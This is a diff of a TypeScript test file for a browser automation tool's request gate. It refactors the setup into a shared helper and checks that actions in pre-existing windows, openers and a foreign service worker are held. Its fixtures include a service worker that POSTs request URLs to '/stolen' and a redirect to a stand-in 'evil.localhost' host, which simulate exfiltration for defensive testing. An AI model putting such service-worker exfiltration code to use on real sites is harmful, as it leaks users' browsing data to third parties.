@@ -1,12 +1,11 @@
 // Windows that were there before an action, in a real Chromium: what an action sends by them is held as in its own tab.
 import assert from 'node:assert/strict';
-import { after, before, test } from 'node:test';
+import { test } from 'node:test';
 import type { ActionReport, DomTool, Observation, RequestGate } from '../../js-glue/tool/index.js';
 import { recordAt, stringAt } from '../../js-glue/tool/base/narrow.js';
-import { NodeBrowser } from '../support/node_port.js';
-import { SiteServer } from '../support/site_server.js';
 import { theControl } from '../support/text_view.js';
 import { eventually } from '../support/waiting.js';
+import { useHeldSite } from './support/held_site.js';
 import { dataOf, within } from './support/opening.js';
 
 const kOther = 'http://evil.localhost:{{port}}';
@@ -36,30 +35,15 @@ const kWorker = `oninstall = () => skipWaiting(); onactivate = (event) => event.
 onfetch = (event) => { if (event.request.url.endsWith('?served'))
   event.respondWith(fetch('/stolen', { method: 'POST', body: event.request.url }).then(() => new Response('served'))); };`;
 
-const asked: string[] = [];
+const held = useHeldSite({
+  pages: kPages,
+  scripts: { '/worker.js': kWorker },
+  recorded: ['/stolen', '/ad'],
+  answer: { body: '<h1>Came</h1>' },
+  otherHost: 'evil.localhost',
+});
+const { asked } = held;
 const wasAsked = (one: string): boolean => asked.includes(one);
-let site: SiteServer;
-let browser: NodeBrowser;
-before(async () => {
-  site = await SiteServer.start({
-    handle: ({ method, path, host }) => {
-      if (path === '/away')
-        return { status: 302, headers: { location: `http://evil.localhost:${site.port}/stolen` }, body: '' };
-      if (path === '/worker.js') return { type: 'text/javascript', body: kWorker };
-      if (path === '/stolen' || path === '/ad') {
-        asked.push(`${method} ${host}${path}`);
-        return { body: '<h1>Came</h1>' };
-      }
-      const body = kPages[path];
-      return body === undefined ? undefined : { body: body.replaceAll('{{port}}', String(site.port)) };
-    },
-  });
-  browser = await NodeBrowser.launch();
-});
-after(async () => {
-  await browser?.close();
-  await site?.close();
-});
 
 class Gate implements RequestGate {
   readonly newTabs = { openSites: ['home.test'], closedSites: [], maySendTo: [] };
@@ -73,7 +57,7 @@ class Gate implements RequestGate {
 }
 
 async function pathsOfTabs(): Promise<string[]> {
-  return (await browser.connection.tabs()).map(({ url }) => (URL.canParse(url) ? new URL(url).pathname : url));
+  return (await held.browser.connection.tabs()).map(({ url }) => (URL.canParse(url) ? new URL(url).pathname : url));
 }
 
 async function press(tool: DomTool, name: RegExp, gate?: RequestGate): Promise<ActionReport> {
@@ -87,9 +71,9 @@ async function press(tool: DomTool, name: RegExp, gate?: RequestGate): Promise<A
 /** Opens the page, presses "Open" under a gate, and closes what is left. */
 async function withWindow(path: string, run: (tool: DomTool, opened: string) => Promise<void>): Promise<void> {
   asked.length = 0;
-  const { connection } = browser;
+  const { connection } = held.browser;
   const before = new Set((await connection.tabs()).map(({ targetId }) => targetId));
-  const tool = await connection.newTab(`http://home.test:${site.port}${path}`);
+  const tool = await connection.newTab(`http://home.test:${held.site.port}${path}`);
   try {
     await within(
       60_000,
@@ -127,7 +111,7 @@ for (const path of ['/location', '/named', '/link', '/form', '/redirect']) {
 
 test('the window that opened the page is held', async () => {
   await withWindow('/opener', async (_tool, opened) => {
-    const child = await browser.connection.open(opened);
+    const child = await held.browser.connection.open(opened);
     const report = await press(child, /^Go$/, new Gate());
     assert.match(report.observed.events.join('\n'), /not sent: /);
     assert.deepEqual(asked, []);
@@ -140,7 +124,7 @@ test('the window that opened the page is held', async () => {
 
 for (const path of ['/served', '/served_tab']) {
   test(`the service worker of another site is asked for nothing: ${path.slice(1)}`, async () => {
-    const other = await browser.connection.newTab(`http://evil.localhost:${site.port}/register`);
+    const other = await held.browser.connection.newTab(`http://evil.localhost:${held.site.port}/register`);
     dataOf(await other.execute({ action: 'wait', until: 'text', text: 'served' }));
     await other.close();
     await withWindow(path, async (tool) => {
